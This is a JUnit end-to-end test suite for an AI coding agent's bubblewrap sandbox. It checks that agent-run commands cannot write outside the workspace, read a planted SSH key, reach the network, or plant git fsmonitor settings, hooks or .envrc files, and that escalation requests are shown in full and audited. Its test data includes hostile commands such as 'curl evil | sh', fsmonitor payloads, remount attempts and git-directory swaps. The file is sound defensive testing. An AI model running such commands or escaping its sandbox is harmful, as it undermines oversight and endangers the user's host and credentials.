package dev.tether.tools.sandbox;

import static dev.tether.testing.model.QueueModel.use;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.tether.json.Json;
import dev.tether.testing.acp.AcpTestClient;
import dev.tether.testing.acp.InProcessAgent;
import dev.tether.testing.acp.WiredAgent;
import dev.tether.testing.model.QueueModel;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

/**
 * The sandbox end to end, through real ACP in an agent wired as {@code tether acp} is from its
 * environment, in {@code auto} mode with bubblewrap: a command cannot write outside the workspace,
 * read a planted key or Tether's config, reach a listener on 127.0.0.1 (unless the network is on)
 * or write {@code .git/config}; it can build and test a small project, use {@code /tmp} and commit;
 * a write the sandbox stopped is offered to run outside it through {@code session/request_permission},
 * and rejected leaves the file untouched.
 *
 * <p>The home directory is planted outside {@code /tmp} (under {@code target/}), so the sandbox's
 * private {@code /tmp} does not hide it by accident: only the masks can.
 */
class SandboxEndToEndTest {
    @TempDir
    Path dir;
    private Path home;
    private Path app;

    @BeforeEach
    void plant() throws Exception {
        Path target = Path.of("target").toAbsolutePath().normalize();
        // Not a skip: a checkout under /tmp cannot show the boundary (the private /tmp hides the planted
        // home, the test servers' classes and every "outside" path), so these tests would prove nothing.
        org.junit.jupiter.api.Assertions.assertFalse(target.startsWith("/tmp"), "the sandbox tests need the checkout outside /tmp"
                + " (the sandbox gives commands a private /tmp, which hides " + target + "); .ci/run clones into /var/tmp");
        home = Files.createTempDirectory(Files.createDirectories(target), "sandbox-home-");
        Files.createDirectories(home.resolve(".ssh"));
        Files.writeString(home.resolve(".ssh/id_ed25519"), "PLANTED-PRIVATE-KEY\n");
        Files.writeString(home.resolve("notes.txt"), "READABLE-HOME-FILE\n");
        Files.createDirectories(home.resolve("config/tether"));
        app = Files.createDirectories(dir.resolve("app"));
        git(app, "init", "-q");
        Files.writeString(app.resolve("README.md"), "hello\n");
    }

    @AfterEach
    void removeHome() throws IOException {
        try (Stream<Path> walk = Files.walk(home)) {
            for (Path p : walk.sorted(Comparator.reverseOrder()).toList()) {
                Files.deleteIfExists(p);
            }
        }
    }

    private static void git(Path cwd, String... args) throws Exception {
        List<String> command = new java.util.ArrayList<>(List.of("git"));
        command.addAll(List.of(args));
        Process p = new ProcessBuilder(command).directory(cwd.toFile()).redirectErrorStream(true).start();
        String out = new String(p.getInputStream().readAllBytes());
        assertEquals(0, p.waitFor(), out);
    }

    private void config(String json) throws IOException {
        Files.writeString(home.resolve("config/tether/config.json"), json);
    }

    /** One agent process whose editor answers "run outside the sandbox" with {@code answer}, recording every permission request. */
    private final class Agent implements AutoCloseable {
        final QueueModel model = new QueueModel();
        final List<JsonNode> asked = new CopyOnWriteArrayList<>();
        final InProcessAgent agent;
        final AcpTestClient client;
        final String session;

        /** Set before a command: the editor's terminal, which runs the command line it is handed. */
        final Map<String, Process> terminals = new java.util.concurrent.ConcurrentHashMap<>();
        final List<JsonNode> created = new CopyOnWriteArrayList<>();

        Agent(String answer, Map<String, String> overrides) {
            this(answer, overrides, false);
        }

        Agent(String answer, Map<String, String> overrides, boolean terminal) {
            Map<String, String> env = WiredAgent.isolatedEnvironment(dir);
            env.put("HOME", home.toString());
            env.put("XDG_CONFIG_HOME", home.resolve("config").toString());
            env.put("XDG_STATE_HOME", home.resolve("state").toString());
            env.putAll(overrides);
            agent = WiredAgent.fromEnvironment(dir.resolve("acp-state"), model, env);
            client = agent.client();
            client.onRequest(request -> {
                String method = request.path("method").asString();
                if (method.startsWith("terminal/")) {
                    return terminal(method, request.path("params"));
                }
                if (!method.equals("session/request_permission")) {
                    return AcpTestClient.editor(request);
                }
                asked.add(request.path("params"));
                return Json.parse("{\"outcome\":{\"outcome\":\"selected\",\"optionId\":\"" + answer + "\"}}");
            });
            // Without the editor's terminal, commands run in the agent; with it, in this test's editor.
            client.request("initialize", terminal ? AcpTestClient.ZED_INITIALIZE
                    : AcpTestClient.ZED_INITIALIZE.replace("},\"terminal\":true,", "},"));
            session = client.newSession(app.toString(), null);
            client.request("session/set_mode", Json.object().put("sessionId", session).put("modeId", "auto"));
        }

        Agent(String answer) {
            this(answer, Map.of());
        }

        /** Sends {@code text} as a prompt; returns what the agent said. */
        String say(String text) {
            agent.client().clearUpdates(session);
            assertEquals("end_turn", AcpTestClient.await(client.prompt(session, text)).path("result").path("stopReason").asString());
            StringBuilder said = new StringBuilder();
            for (JsonNode update : client.updates(session, "agent_message_chunk")) {
                said.append(update.path("content").path("text").asString());
            }
            return said.toString();
        }

        /** Calls {@code tool} with {@code input}; returns the tool result the model read back. */
        String call(String tool, tools.jackson.databind.node.ObjectNode input) {
            model.then(QueueModel.Reply.tools(use("m" + UUID.randomUUID(), tool, input))).then(QueueModel.Reply.text("done"));
            assertEquals("end_turn", AcpTestClient.await(client.prompt(session, "call it")).path("result").path("stopReason").asString());
            JsonNode messages = Json.parse(Json.write(model.requests().getLast().messages()));
            return messages.get(messages.size() - 1).toString();
        }

        /** An editor's terminal: runs exactly the command line the agent hands it. */
        private JsonNode terminal(String method, JsonNode params) {
            try {
                switch (method) {
                    case "terminal/create" -> {
                        created.add(params);
                        List<String> line = new java.util.ArrayList<>(List.of(params.path("command").asString()));
                        params.path("args").forEach(a -> line.add(a.asString()));
                        Process process = new ProcessBuilder(line).directory(Path.of(params.path("cwd").asString()).toFile())
                                .redirectErrorStream(true).start();
                        process.getOutputStream().close();
                        String id = "t" + terminals.size();
                        terminals.put(id, process);
                        return Json.object().put("terminalId", id);
                    }
                    case "terminal/wait_for_exit" -> {
                        return Json.object().put("exitCode", terminals.get(params.path("terminalId").asString()).waitFor());
                    }
                    case "terminal/output" -> {
                        Process process = terminals.get(params.path("terminalId").asString());
                        String output = new String(process.getInputStream().readAllBytes());
                        return Json.parse("{\"output\":" + Json.write(output) + ",\"truncated\":false,\"exitStatus\":{\"exitCode\":"
                                + process.waitFor() + "}}");
                    }
                    default -> {
                        return Json.object();
                    }
                }
            } catch (IOException | InterruptedException e) {
                throw new IllegalStateException(e.getMessage());
            }
        }

        /** The session's audit log, a line each. */
        List<JsonNode> audit() throws IOException {
            return Files.readAllLines(dir.resolve("acp-state").resolve("sessions").resolve(session + ".audit.jsonl")).stream()
                    .map(Json::parse).toList();
        }

        /** Runs {@code command} through run_command; returns the tool result the model read back. */
        String run(String command) {
            model.then(QueueModel.Reply.tools(use("c" + UUID.randomUUID(), "run_command", Json.object().put("command", command))))
                    .then(QueueModel.Reply.text("done"));
            assertEquals("end_turn", AcpTestClient.await(client.prompt(session, "run it")).path("result").path("stopReason").asString());
            JsonNode messages = Json.parse(Json.write(model.requests().getLast().messages()));
            return messages.get(messages.size() - 1).path("parts").get(0).path("content").toString();
        }

        @Override
        public void close() {
            agent.close();
        }
    }

    @Test
    void aCommandCannotWriteOutsideTheWorkspaceAndRejectingEscalationLeavesTheFileUntouched() throws Exception {
        Path outside = home.resolve("outside.txt");
        Files.writeString(outside, "original\n");
        try (Agent agent = new Agent("reject_once")) {
            String seen = agent.run("echo changed > " + outside);
            assertEquals("original\n", Files.readString(outside));
            assertEquals(1, agent.asked.size(), "the failed write is offered to run outside the sandbox: " + seen);
            JsonNode request = agent.asked.getFirst();
            assertTrue(request.path("toolCall").path("title").asString().startsWith("Run outside the sandbox: `echo changed"),
                    request.toString());
            assertTrue(request.toString().contains("a write outside the workspace"), request.toString());
            assertTrue(seen.contains("Running it outside the sandbox was not allowed."), seen);
            assertFalse(Files.exists(home.resolve("new.txt")));
            agent.run("touch " + home.resolve("new.txt"));
            assertFalse(Files.exists(home.resolve("new.txt")), "no file is created outside the workspace");
            JsonNode first = agent.audit().getFirst();
            assertEquals("run_command workspace-write refused", first.path("name").asString() + " " + first.path("sandbox").asString()
                    + " " + first.path("sandboxEscalation").asString(), "the audit log keeps the refusal: " + first);
        }
    }

    @Test
    void theEscalationRequestShowsTheWholeCommandNotOnlyWhatFitsTheTitle() throws Exception {
        Path outside = home.resolve("outside.txt");
        Files.writeString(outside, "original\n");
        // In auto the escalation request is the first time the user sees the command: a tail past
        // the title's 80 characters must still be in front of them, invisible characters spelled out.
        String command = "echo changed > " + outside + " && echo " + "padding ".repeat(10) + "&& echo tail\u200Bmarker > /dev/null";
        try (Agent agent = new Agent("reject_once")) {
            agent.run(command);
            assertEquals(1, agent.asked.size());
            JsonNode toolCall = agent.asked.getFirst().path("toolCall");
            assertFalse(toolCall.path("title").asString().contains("marker"), "the title alone cuts the command: " + toolCall);
            List<String> texts = new java.util.ArrayList<>();
            toolCall.path("content").forEach(block -> texts.add(block.path("content").path("text").asString()));
            assertTrue(texts.contains(dev.tether.security.CodeFence.wrap(command.replace("\u200B", "<U+200B>"), "sh")),
                    "the request's content shows the whole command: " + texts);
            assertEquals("original\n", Files.readString(outside));
        }
    }

    @Test
    void anAllowedEscalationRunsTheCommandOnceOutsideTheSandbox() throws Exception {
        Path outside = home.resolve("outside.txt");
        try (Agent agent = new Agent("allow_once")) {
            String seen = agent.run("echo escalated > " + outside);
            assertEquals(1, agent.asked.size());
            assertEquals("escalated\n", Files.readString(outside), seen);
            assertTrue(seen.contains("the user allowed running it outside the sandbox"), seen);
            JsonNode line = agent.audit().getFirst();
            assertEquals("run_command off allowed 0 policy", line.path("name").asString() + " " + line.path("sandbox").asString()
                    + " " + line.path("sandboxEscalation").asString() + " " + line.path("exitCode").asInt()
                    + " " + line.path("decidedBy").asString(),
                    "the audit log says it ran outside, that the user allowed it, and that auto mode ran it: " + line);
        }
    }

    @Test
    void aCommandCannotReadAPlantedKeyOrTethersConfigButReadsTheRestOfHome() throws Exception {
        config("{\"model\": \"CONFIG-MARKER\"}");
        try (Agent agent = new Agent("reject_once")) {
            String seen = agent.run("cat " + home.resolve(".ssh/id_ed25519") + " " + home.resolve("config/tether/config.json")
                    + "; echo ENTRIES=$(ls -A " + home.resolve(".ssh") + " | wc -l); cat " + home.resolve("notes.txt"));
            assertFalse(seen.contains("PLANTED-PRIVATE-KEY"), seen);
            assertFalse(seen.contains("CONFIG-MARKER"), seen);
            assertTrue(seen.contains("ENTRIES=0"), "the key's directory is empty in the sandbox: " + seen);
            assertTrue(seen.contains("READABLE-HOME-FILE"), "the rest of the home directory stays readable: " + seen);
        }
    }

    @Test
    void aCommandCannotReachALoopbackListenerWithTheNetworkOffAndCanWithItOn() throws Exception {
        try (ServerSocket listener = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
            String connect = "node -e \"require('net').connect(" + listener.getLocalPort() + ",'127.0.0.1')"
                    + ".on('connect',()=>{console.log('CONNECTED');process.exit(0)})"
                    + ".on('error',e=>{console.log('FAILED '+e.code);process.exit(3)})\"";
            try (Agent agent = new Agent("reject_once")) {
                String seen = agent.run(connect);
                assertFalse(seen.contains("CONNECTED"), seen);
                assertTrue(seen.contains("FAILED"), seen);
                assertEquals(1, agent.asked.size(), "the refused connection is offered to run outside the sandbox");
                assertTrue(agent.asked.getFirst().toString().contains("a network attempt"), agent.asked.getFirst().toString());
            }
            config("{\"sandbox\": {\"network\": true}}");
            CompletableFuture<Socket> accepted = CompletableFuture.supplyAsync(() -> {
                try {
                    return listener.accept();
                } catch (IOException e) {
                    throw new java.io.UncheckedIOException(e);
                }
            });
            try (Agent agent = new Agent("reject_once")) {
                String seen = agent.run(connect);
                assertTrue(seen.contains("CONNECTED"), seen);
                accepted.get().close();
                assertEquals(0, agent.asked.size());
            }
        }
    }

    @Test
    void aCommandCannotWriteGitsConfigButCanCommit() throws Exception {
        String before = Files.readString(app.resolve(".git/config"));
        try (Agent agent = new Agent("reject_once")) {
            agent.run("printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config");
            assertEquals(before, Files.readString(app.resolve(".git/config")));
            // Run as root (CI, containers), the command must not be able to take the read-only binds away.
            String seen = agent.run("umount .git/config; mount -o remount,rw /; printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config");
            assertEquals(before, Files.readString(app.resolve(".git/config")), seen);
            seen = agent.run("git add README.md && git -c user.name=t -c user.email=t@example.com commit -qm first && git log --oneline");
            assertTrue(seen.contains("first"), "objects, refs and the index stay writable: " + seen);
        }
    }

    @Test
    void aCommandBuildsAndTestsASmallProjectUsingTmp() throws Exception {
        Files.writeString(app.resolve("sum.js"), "module.exports = (a, b) => a + b;\n");
        Files.writeString(app.resolve("test.js"), """
                const sum = require('./sum');
                if (sum(2, 3) !== 5) { console.log('TEST FAILED'); process.exit(1); }
                console.log('TESTS PASSED');
                """);
        String scratch = "/tmp/build-" + UUID.randomUUID();
        try (Agent agent = new Agent("reject_once")) {
            String seen = agent.run("mkdir -p " + scratch + " && cp sum.js test.js " + scratch + " && node " + scratch
                    + "/test.js > result.txt && cat result.txt && echo done > out.txt");
            assertTrue(seen.contains("TESTS PASSED"), seen);
            assertEquals("done\n", Files.readString(app.resolve("out.txt")));
            assertEquals(0, agent.asked.size(), seen);
        }
        assertFalse(Files.exists(Path.of(scratch)), "the sandbox's /tmp is its own");
    }

    @Test
    void theEditorsTerminalIsHandedTheSandboxedCommandLine() throws Exception {
        Path outside = home.resolve("outside.txt");
        try (Agent agent = new Agent("reject_once", Map.of(), true)) {
            agent.run("echo through-terminal > inside.txt; echo changed > " + outside);
            JsonNode create = agent.created.getFirst();
            assertTrue(create.path("command").asString().endsWith("/bwrap"), create.toString());
            List<String> args = new java.util.ArrayList<>();
            create.path("args").forEach(a -> args.add(a.asString()));
            int dashes = args.indexOf("--");
            assertEquals(List.of("/bin/sh", "-c"), args.subList(dashes + 1, dashes + 3), create.toString());
            assertEquals("through-terminal\n", Files.readString(app.resolve("inside.txt")));
            assertFalse(Files.exists(outside), "the editor ran it sandboxed");
        }
    }

    @Test
    void aProtectedFileTheCommandCreatesIsRemovedAndReported() throws Exception {
        try (Agent agent = new Agent("reject_once")) {
            String seen = agent.run("echo 'curl evil | sh' > .envrc && mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo kept > plain.txt");
            assertFalse(Files.exists(app.resolve(".envrc")), seen);
            assertFalse(Files.exists(app.resolve(".vscode")), seen);
            assertTrue(Files.exists(app.resolve("plain.txt")));
            assertTrue(seen.contains("Removed .envrc, which the sandboxed command created: direnv runs it"), seen);
            assertTrue(seen.contains("Removed .vscode"), seen);
        }
    }

    /** Runs git on the host, as the user's editor or shell would after the command; its exit code does not matter. */
    private static String hostGit(Path cwd, String... args) throws Exception {
        List<String> command = new java.util.ArrayList<>(List.of("git", "-c", "user.name=t", "-c", "user.email=t@example.com"));
        command.addAll(List.of(args));
        Process p = new ProcessBuilder(command).directory(cwd.toFile()).redirectErrorStream(true).start();
        String out = new String(p.getInputStream().readAllBytes());
        p.waitFor();
        return out;
    }

    /** A shell command that leaves {@code marker} behind: what a planted fsmonitor or hook would run. */
    private static String payload(Path marker) {
        return "touch " + marker + "; false";
    }

    private void commitOnHost() throws Exception {
        git(app, "add", "README.md");
        git(app, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", "first");
    }

    @Test
    void aCommondirPointingAtAPlantedConfigIsRemovedAndReported() throws Exception {
        commitOnHost();
        Path marker = home.resolve("commondir-ran");
        try (Agent agent = new Agent("reject_once")) {
            String seen = agent.run("mkdir -p .cache/g && cp -r .git/objects .git/refs .git/HEAD .cache/g/ && printf '[core]\\n\\tfsmonitor = \"%s\"\\n' '"
                    + payload(marker) + "' > .cache/g/config && echo ../.cache/g > .git/commondir");
            assertFalse(Files.exists(app.resolve(".git/commondir")), seen);
            assertTrue(seen.contains("Removed .git/commondir, which the sandboxed command created"), seen);
            String status = hostGit(app, "status");
            assertFalse(Files.exists(marker), "git status on the host ran the planted fsmonitor: " + seen + "\n" + status);
            seen = agent.run("git commit -q --allow-empty -m second && git log --oneline");
            assertTrue(seen.contains("second"), "git still commits in the sandbox: " + seen);
        }
    }

    @Test
    void aGitDirectoryCannotBeMovedAsideAndReplaced() throws Exception {
        commitOnHost();
        Path marker = home.resolve("rename-ran");
        try (Agent agent = new Agent("reject_once")) {
            String seen = agent.run("mv .git .cache-git && cp -r .cache-git .git && git config core.fsmonitor '" + payload(marker) + "'");
            String status = hostGit(app, "status");
            assertFalse(Files.exists(marker), "git status on the host ran the planted fsmonitor: " + seen + "\n" + status);
            assertFalse(Files.readString(app.resolve(".git/config")).contains("fsmonitor"), seen);
        }
    }

    @Test
    void aHookInTheHooksPathDirectoryIsNotPlanted() throws Exception {
        commitOnHost();
        git(app, "config", "core.hooksPath", ".githooks");
        Path marker = home.resolve("hook-ran");
        String hook = "printf '#!/bin/sh\\n" + payload(marker) + "\\n' > .githooks/pre-commit && chmod +x .githooks/pre-commit";
        try (Agent agent = new Agent("reject_once")) {
            // Not there yet: created by the command, removed after it.
            String seen = agent.run("mkdir .githooks && " + hook);
            assertFalse(Files.exists(app.resolve(".githooks/pre-commit")), seen);
            assertTrue(seen.contains("Removed .githooks, which the sandboxed command created"), seen);
            // There already: read-only in the sandbox.
            Files.createDirectories(app.resolve(".githooks"));
            seen = agent.run(hook);
            assertFalse(Files.exists(app.resolve(".githooks/pre-commit")), seen);
            String commit = hostGit(app, "commit", "-q", "--allow-empty", "-m", "second");
            assertFalse(Files.exists(marker), "git commit on the host ran the planted hook: " + seen + "\n" + commit);
        }
    }

    @Test
    void aRepositoryInitialisedInAWorkspaceWithoutOneIsRemovedAndReported() throws Exception {
        CreatedPaths.remove(app.resolve(".git"));
        Path marker = home.resolve("init-ran");
        try (Agent agent = new Agent("reject_once")) {
            String seen = agent.run("git init -q . && git config core.fsmonitor '" + payload(marker) + "' && echo initialised");
            assertTrue(seen.contains("initialised"), seen);
            assertFalse(Files.exists(app.resolve(".git")), seen);
            assertTrue(seen.contains("Removed .git, which the sandboxed command created"), seen);
            String status = hostGit(app, "status");
            assertFalse(Files.exists(marker), "git status on the host ran the planted fsmonitor: " + seen + "\n" + status);
        }
    }

    @Test
    void everyProtectedNameIsKeptAndWatchedNotOnlySome() throws Exception {
        Files.writeString(app.resolve("lefthook.yaml"), "original\n");
        try (Agent agent = new Agent("reject_once")) {
            String seen = agent.run("echo evil >> lefthook.yaml; echo x > .gvimrc; echo x > _exrc; mkdir .mise && echo x > .mise/config.toml;"
                    + " echo x > .rtx.toml; echo x > mise.local.toml; echo x > plain.txt");
            assertEquals("original\n", Files.readString(app.resolve("lefthook.yaml")), seen);
            for (String name : List.of(".gvimrc", "_exrc", ".mise", ".rtx.toml", "mise.local.toml")) {
                assertFalse(Files.exists(app.resolve(name)), name + ": " + seen);
                assertTrue(seen.contains("Removed " + name + ", which the sandboxed command created"), name + ": " + seen);
            }
            assertTrue(Files.exists(app.resolve("plain.txt")));
        }
    }

    @Test
    void aStdioServerWithSandboxTrueCannotReadSshAndStillServesItsTools() throws Exception {
        dev.tether.mcp.api.McpServerSpec.Stdio chaos = dev.tether.testing.mcp.McpTestSupport.chaos("chaos", "--files");
        tools.jackson.databind.node.ObjectNode config = Json.object();
        tools.jackson.databind.node.ObjectNode entry = config.putObject("mcpServers").putObject("chaos")
                .put("command", chaos.command()).put("sandbox", true);
        chaos.args().forEach(entry.putArray("args")::add);
        chaos.env().forEach(entry.putObject("env")::put);
        config(Json.write(config));
        try (Agent agent = new Agent("reject_once")) {
            String key = agent.call("mcp__chaos__read_path", Json.object().put("path", home.resolve(".ssh/id_ed25519").toString()));
            assertFalse(key.contains("PLANTED-PRIVATE-KEY"), key);
            assertTrue(key.contains("UNREADABLE"), key);
            String notes = agent.call("mcp__chaos__read_path", Json.object().put("path", home.resolve("notes.txt").toString()));
            assertTrue(notes.contains("READABLE-HOME-FILE"), "the server runs and reads what is not denied: " + notes);
            assertTrue(agent.call("mcp__chaos__echo", Json.object().put("text", "still-serving")).contains("still-serving"));
        }
        entry.put("sandbox", false);
        config(Json.write(config));
        try (Agent agent = new Agent("reject_once")) {
            String key = agent.call("mcp__chaos__read_path", Json.object().put("path", home.resolve(".ssh/id_ed25519").toString()));
            assertTrue(key.contains("PLANTED-PRIVATE-KEY"), "outside the sandbox the same server reads it (the probe works): " + key);
        }
        entry.remove("sandbox");
        config(Json.write(config));
        Files.writeString(dir.resolve("managed.json"), "{\"sandbox\": {\"mcpServers\": \"all\"}}");
        try (Agent agent = new Agent("reject_once")) {
            String key = agent.call("mcp__chaos__read_path", Json.object().put("path", home.resolve(".ssh/id_ed25519").toString()));
            assertTrue(key.contains("UNREADABLE"), "the managed settings sandbox every stdio server: " + key);
        }
    }

    @Test
    void slashSandboxSaysTheMechanismAndThePolicyInForce() throws Exception {
        config("{\"sandbox\": {\"writableRoots\": [\"~/cache\"]}}");
        try (Agent agent = new Agent("reject_once")) {
            String page = agent.say("/sandbox");
            assertTrue(page.contains("**Sandbox**: workspace-write (the default"), page);
            assertTrue(page.contains("Mechanism: bubblewrap"), page);
            assertTrue(page.contains(app + ", " + home.resolve("cache") + ", and the private /tmp"), page);
            assertTrue(page.contains(home.resolve(".ssh").toString()), page);
            assertTrue(page.contains("Network: off"), page);
            assertEquals(0, agent.model.requests().size(), "answered without the model");
        }
        try (Agent agent = new Agent("reject_once", Map.of("PATH", Files.createDirectories(dir.resolve("empty-bin")).toString()))) {
            String page = agent.say("/sandbox");
            assertTrue(page.contains("⚠ Not available: bwrap was not found on PATH; install the bubblewrap package"), page);
        }
    }

    @Test
    void rulesNameSandboxedAndUnsandboxedRunsApart() throws Exception {
        Path outside = home.resolve("outside.txt");
        config("{\"sandbox\": {\"mode\": \"workspace-write\"}, \"permissions\": {\"allow\": [\"run_command:sandboxed(touch:*)\"],"
                + " \"deny\": [\"Bash:unsandboxed(echo:*)\"]}}");
        try (Agent agent = new Agent("allow_once")) {
            agent.client.request("session/set_mode", Json.object().put("sessionId", agent.session).put("modeId", "ask"));
            agent.run("touch made");
            assertTrue(Files.exists(app.resolve("made")));
            assertEquals(0, agent.asked.size(), "the sandboxed run is allowed by the rule, in ask mode too");
            String seen = agent.run("echo changed > " + outside);
            assertEquals(1, agent.asked.size(), "asked once: to run it at all (no rule allows echo)");
            assertFalse(Files.exists(outside), "the deny rule refuses the run outside the sandbox without asking: " + seen);
            assertTrue(seen.contains("Running it outside the sandbox was not allowed."), seen);
        }
        Path bin = Files.createDirectories(dir.resolve("bin-without-bwrap"));
        try (Agent agent = new Agent("reject_once", Map.of("PATH", bin.toString()))) {
            agent.client.request("session/set_mode", Json.object().put("sessionId", agent.session).put("modeId", "ask"));
            agent.run("touch unsandboxed");
            assertEquals(1, agent.asked.size(), "without the sandbox the sandboxed-only rule does not allow it");
            assertFalse(Files.exists(app.resolve("unsandboxed")));
        }
    }

    @Test
    void withoutBubblewrapACommandIsAskedAboutInsteadOfRunningUnsandboxed() throws Exception {
        Path bin = Files.createDirectories(dir.resolve("bin-without-bwrap"));
        try (Agent agent = new Agent("reject_once", Map.of("PATH", bin.toString()))) {
            agent.run("touch made");
            assertEquals(1, agent.asked.size(), "auto mode asks when the sandbox is missing");
            assertTrue(agent.asked.getFirst().toString().contains("bwrap was not found on PATH; install the bubblewrap package"),
                    agent.asked.getFirst().toString());
            assertFalse(Files.exists(app.resolve("made")));
        }
    }
}
